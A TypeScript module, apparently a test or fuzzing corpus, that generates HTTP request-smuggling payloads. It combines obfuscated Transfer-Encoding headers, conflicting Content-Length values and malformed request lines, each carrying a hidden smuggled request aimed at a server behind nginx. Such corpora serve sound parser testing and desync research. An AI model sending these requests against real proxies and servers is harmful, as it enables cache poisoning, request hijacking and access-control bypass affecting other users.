/** Requests on whose end two servers may not agree, as they stand on the wire. */

const lengthOf = (body: string) => Buffer.byteLength(body);

/** A request by the path that a server behind nginx knows, for which it would take the rest of a body. */
export const hidden = (host: string): string => `GET /api/smuggled HTTP/1.1\r\nHost: ${host}\r\n\r\n`;

/** Codings, as they should be and as only some servers understand them. */
const codings = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding: CHUNKED",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding: \u000bchunked",
  "Transfer-Encoding:\n chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: xchunked",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: chunked;q=1",
  "Transfer_Encoding: chunked",
  "Transfer-Encoding\0: chunked",
  " Transfer-Encoding: chunked",
  "X-One: two\r\n Transfer-Encoding: chunked",
  "X-One: two\nTransfer-Encoding: chunked",
  "X-One: two\rTransfer-Encoding: chunked",
  "X-One: two",
];

/** Lengths of a body of so many bytes, as they should be and as only some servers understand them. */
const lengths: readonly ((length: number) => string)[] = [
  (length) => `Content-Length: ${length}`,
  () => "Content-Length: 0",
  () => "Content-Length: 5",
  () => "Content-Length: -1",
  () => "Content-Length: 18446744073709551616",
  (length) => `Content-Length: +${length}`,
  (length) => `Content-Length: ${length}, ${length}`,
  (length) => `Content-Length: ${length}\r\nContent-Length: 0`,
  (length) => `Content-Length: 0x${length.toString(16)}`,
  (length) => `Content-Length : ${length}`,
  () => "X-Two: three",
];

/** Lines that begin a request, of which none is one. */
const lines = (path: string) => [
  `POST ${path} HTTP/1.1 `,
  `POST  ${path} HTTP/1.1`,
  `POST\t${path}\tHTTP/1.1`,
  `POST ${path} HTTP/1.1\r\nHost: other\r\nX-One: two`,
  `POST ${path} HTTP/9.9`,
  `POST ${path} HTTP/1.10`,
  `POST ${path}\0 HTTP/1.1`,
  `POST ${path} /api/smuggled HTTP/1.1`,
  `P\u00f6ST ${path} HTTP/1.1`,
  `post ${path} HTTP/1.1`,
];

export interface Smuggled {
  readonly head: string;
  readonly body: string;
}

/** Every coding with every length, and every line, each with a request hidden in the body. */
export function smuggled(path: string, host: string): readonly Smuggled[] {
  const head = (line: string, ...fields: readonly string[]) =>
    [line, `Host: ${host}`, "Content-Type: application/json", ...fields, "\r\n"].join("\r\n");
  const bodies = [
    `0\r\n\r\n${hidden(host)}`,
    hidden(host),
    `5;x=\n\r\n12345\r\n0\r\nX: y\r\n\r\n${hidden(host)}`,
  ];
  return [
    ...codings.flatMap((coding, at) =>
      lengths.map((length, index) => {
        const body = bodies[(at + index) % bodies.length] ?? "";
        return { head: head(`POST ${path} HTTP/1.1`, coding, length(lengthOf(body))), body };
      }),
    ),
    ...lines(path).map((line) => ({ head: head(line, "Content-Length: 0"), body: hidden(host) })),
  ];
}
